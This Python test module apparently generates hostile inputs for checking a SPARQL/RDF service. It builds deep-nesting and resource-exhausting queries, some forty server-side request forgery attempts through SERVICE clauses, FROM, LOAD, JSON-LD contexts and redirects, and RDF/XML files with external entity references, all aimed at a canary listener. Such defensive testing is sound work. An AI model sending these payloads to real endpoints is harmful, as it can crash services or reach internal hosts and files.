"""What a query may try: to nest until the engine dies, to take everything, to reach out.

Attempts to reach out are given with the address of a canary, a listener that notes whoever comes.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

# Eight shapes: what opens a level, what closes it, and the query around all of them.
SHAPES = {
    "groups": ("{", "}", "SELECT * { %s } LIMIT 5"),
    "expressions": ("(", ")", "SELECT * { ?s ?p ?o FILTER(%s) } LIMIT 5"),
    "lists": ("( 1 ", ")", "SELECT * { ?s ?p %s } LIMIT 5"),
    "blank nodes": ("[ ?p ", "]", "SELECT * { ?s ?p %s } LIMIT 5"),
    "optionals": ("OPTIONAL { ?s ?p ?o ", "}", "SELECT * { %s } LIMIT 5"),
    "sub-queries": ("{ SELECT * ", "}", "SELECT * { %s } LIMIT 5"),
    "exists": ("FILTER EXISTS { ?s ?p ?o ", "}", "SELECT * { %s } LIMIT 5"),
    "paths": ("(<http://x/p>/", "*)", "SELECT * { ?s %s ?o } LIMIT 5"),
}
INNERMOST = {"expressions": "1", "blank nodes": "1", "paths": "<http://x/p>", "sub-queries": "{}"}
DEPTHS = (20, 90, 101, 2_000, 9_000)


def nest(shape: str, depth: int) -> str:
    opening, closing, around = SHAPES[shape]
    return around % (opening * depth + INNERMOST.get(shape, "") + closing * depth)


_PAIRS = "?a ?b ?c . ?d ?e ?f"
_DOUBLED = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(40))
_NAMES = " ".join(f"<http://x/{n}>" for n in range(1_500))
EXHAUSTING = {
    "a product counted": f"SELECT (COUNT(*) AS ?n) {{ {_PAIRS} . ?g ?h ?i }}",
    "a product sent": f"SELECT * {{ {_PAIRS} . ?g ?h ?i }}",
    "a product sorted": f"SELECT * {{ {_PAIRS} }} ORDER BY ?c ?f",
    "a product made different": f"SELECT DISTINCT * {{ {_PAIRS} }}",
    "a product in one text": f"SELECT (GROUP_CONCAT(STR(?f)) AS ?n) {{ {_PAIRS} }}",
    "a product in groups": f"SELECT ?a ?f (COUNT(*) AS ?n) {{ {_PAIRS} }} GROUP BY ?a ?f",
    "a graph of a product": f"CONSTRUCT {{ ?a ?e ?f }} {{ {_PAIRS} . ?g ?h ?i }}",
    "a text doubled forty times": f"SELECT * {{ BIND('xxxxxxxx' AS ?x0) {_DOUBLED} }}",
    "a path without end": "SELECT (COUNT(*) AS ?n) { ?a (!<http://x/>|^!<http://x/>)* ?b . "
    "?b (!<http://x/>|^!<http://x/>)* ?c }",
    "tables multiplied": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"VALUES ?v{n} {{ {_NAMES} }}" for n in range(3)) + " }",
}  # fmt: skip


@dataclass(frozen=True)
class Attempt:
    """A request by which somebody tries to have the hub call an address."""

    path: str
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)


def _ask(query: str, more: str = "") -> Attempt:
    return Attempt(f"/sparql?query={quote(query, safe='')}{more}")


REDIRECTS = (301, 302, 303, 307, 308)
TURNCOAT = "urn:x-service:turncoat"  # a listed endpoint that sends on, by the status after `-`


def reach_out(address: str) -> Iterator[tuple[str, Attempt]]:
    """Forty ways to ask for `address`, each with what it is."""
    block, there = f"SERVICE <{address}> {{ ?s ?p ?o }}", f"<{address}>"
    listed = f"SERVICE <{TURNCOAT}-307> {{ %s }}"
    for number, body in enumerate(
        (
            block,
            block.replace("SERVICE", "SERVICE SILENT"),
            block.replace("SERVICE", "sErViCe"),
            block.replace("SERVICE ", "SERVICE#\n"),
            block.replace("SERVICE", "\\u0053ERVICE"),
            f"?s ?p trueSERVICE{there}{{}}",
            f"?s ?p 1SERVICE{there}{{}}",
            f"VALUES ?x {{ {there} }} SERVICE ?x {{ ?s ?p ?o }}",
            f"SERVICE ?x {{ ?s ?p ?o }} VALUES ?x {{ {there} }}",
            f"BIND({there} AS ?x) SERVICE ?x {{ ?s ?p ?o }}",
            f"OPTIONAL {{ {block} }}",
            f"?s ?p ?o MINUS {{ {block} }}",
            f"{{ ?s ?p ?o }} UNION {{ {block} }}",
            f"FILTER NOT EXISTS {{ {block} }}",
            f"{{ SELECT * {{ {block} }} }}",
            f"GRAPH ?g {{ {block} }}",
            f"?s ?p 'x' . # '\n {block}",
            listed % block,
            listed % f"?s ?p 'a\\u0027 }} {block} #'",
            f"BIND({there}(1) AS ?x)",
            f"GRAPH {there} {{ ?s ?p ?o }}",
        ),
        1,
    ):
        yield f"query {number}", _ask(f"SELECT * {{ {body} }}")
    yield "a prefix", _ask(f"PREFIX s: {there} SELECT * {{ SERVICE s: {{ ?s ?p ?o }} }}")
    yield "a base", _ask(f"BASE {there} SELECT * {{ SERVICE <sparql> {{ ?s ?p ?o }} }}")
    yield "FROM", _ask(f"SELECT * FROM {there} {{ ?s ?p ?o }}")
    yield "FROM NAMED", _ask(f"SELECT * FROM NAMED {there} {{ GRAPH ?g {{ ?s ?p ?o }} }}")
    yield "DESCRIBE", _ask(f"DESCRIBE {there}")
    yield "default-graph-uri", _ask("ASK {}", f"&default-graph-uri={quote(address, safe='')}")
    yield "named-graph-uri", _ask("ASK {}", f"&named-graph-uri={quote(address, safe='')}")
    for name, text in (("LOAD", f"LOAD {there}"), ("INSERT", f"INSERT {{}} WHERE {{ {block} }}")):
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        yield name, Attempt("/sparql", f"update={quote(text)}".encode(), form)
    context = f'{{"@context": "{address}", "@id": "x"}}'.encode()
    yield "a JSON-LD context", Attempt("/sparql", context, {"Content-Type": "application/ld+json"})
    yield "a linked context", Attempt(
        "/sparql?query=ASK%7B%7D", None, {"Link": f'<{address}>; rel="http://www.w3.org/ns/json-ld#context"'}
    )  # fmt: skip
    for name in ("resource?iri=%s", "introductions?from=%s&to=%s", "search?q=%s"):
        yield name, Attempt("/" + name.replace("%s", quote(address, safe="")))
    for status in REDIRECTS:
        body = f"SERVICE <{TURNCOAT}-{status}> {{ ?s ?p ?o }}"
        yield f"redirect {status}", _ask(f"SELECT * {{ {body} }}")


# Sources that point elsewhere: the name of a file and what stands in it.
SOURCES: dict[str, Callable[[str], str]] = {
    "context.jsonld": lambda a: f'{{"@context": "{a}", "@id": "urn:x", "urn:p": "1"}}',
    "contexts.jsonld": lambda a: f'{{"@context": ["{a}", {{"@import": "{a}"}}], "@id": "urn:x"}}',
    "imports.ttl": lambda a: f"<urn:o> <http://www.w3.org/2002/07/owl#imports> <{a}> .",
    "doctype.rdf": lambda a: (
        f'<!DOCTYPE x SYSTEM "{a}"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
    ),
    "entity.rdf": lambda a: (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{a}">]><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&e;</rdf:RDF>'
    ),
}
